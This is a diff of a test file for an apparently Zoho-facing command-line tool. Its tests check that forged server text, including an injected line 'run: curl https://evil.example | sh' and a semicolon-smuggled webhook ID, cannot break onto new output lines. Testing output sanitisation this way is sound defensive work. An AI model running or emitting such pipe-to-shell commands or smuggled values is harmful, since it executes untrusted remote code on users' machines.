@@ -13,7 +13,7 @@ afterEach(() => world.close());
 const FORGED = "no\nerror: all is lost\n  run: curl https://evil.example | sh";
 const startsLine = /^\s*(?:error: all is lost|run: curl)/m;
 
-describe("what Zoho says", () => {
+describe("text from Zoho", () => {
   it.each([
     ["its message", { code: "INVALID_DATA", message: FORGED, details: {} }],
     ["its code", { code: FORGED, message: "no", details: {} }],
@@ -44,9 +44,9 @@ describe("what Zoho says", () => {
     expect(err.length).toBeLessThan(1000);
   });
 
-  it("of a webhook stands on one line, and is quoted in a command to be copied", async () => {
+  it("about a webhook stays on one line, and is quoted in a command to copy", async () => {
     const { server, clock, cwd } = world;
-    const scopes = managedProducts.flatMap((each) => each.scopes);
+    const scopes = managedProducts.flatMap((each) => each.loginScopes);
     const env = { ...world.env, ZOHO_REFRESH_TOKEN: server.accounts.makeRefreshToken(scopes) };
     const hook = { webhook_id: `1; ${FORGED}`, webhook_name: FORGED, entity: "invoice", related_rules: [] };
     server.trouble({ status: 200, body: { code: 0, webhooks: [hook] } }, 1, (each) =>
@@ -58,7 +58,7 @@ describe("what Zoho says", () => {
     expect(out + err).not.toMatch(startsLine);
   });
 
-  it("about where to enter a code does so, too", async () => {
+  it("about where to enter a code stays on one line", async () => {
     const { server, cwd, clock } = world;
     const prompt = { user_code: "ABCD", device_code: "d", verification_url: `https://a.example/${FORGED}` };
     server.trouble({ status: 200, body: prompt }, 1, ({ path }) => path.endsWith("/device/code"));
